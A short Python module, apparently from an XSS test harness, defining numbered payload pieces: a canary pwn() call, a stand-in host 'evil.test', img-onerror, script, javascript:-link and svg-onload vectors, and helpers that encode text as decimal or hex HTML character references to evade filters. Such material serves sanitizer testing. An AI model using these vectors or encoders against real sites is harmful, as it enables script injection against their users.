"""What every payload is made of: each mark names the payload's number, so that whatever happens names the payload."""

NUMBER = "§"  # stands for the payload's number
CALL = f"pwn({NUMBER})"
"""Script that reports its execution."""
HOST = f"//evil.test/{NUMBER}"
"""Another host's address, for what would fetch or go there."""
IMAGE = f"<img src=x onerror={CALL}>"
"""The smallest element that runs by itself."""
SCRIPT = f"<script>{CALL}</script>"
LINK = f"<a href=javascript:{CALL}>x</a>"
SVG = f"<svg onload={CALL}>"


def decimal(text: str) -> str:
    """Return the text as decimal character references, the number's mark left as it is."""
    return "".join(each if each == NUMBER else f"&#{ord(each)};" for each in text)


def hexadecimal(text: str) -> str:
    """Return the text as hexadecimal character references, the number's mark left as it is."""
    return "".join(each if each == NUMBER else f"&#x{ord(each):x};" for each in text)
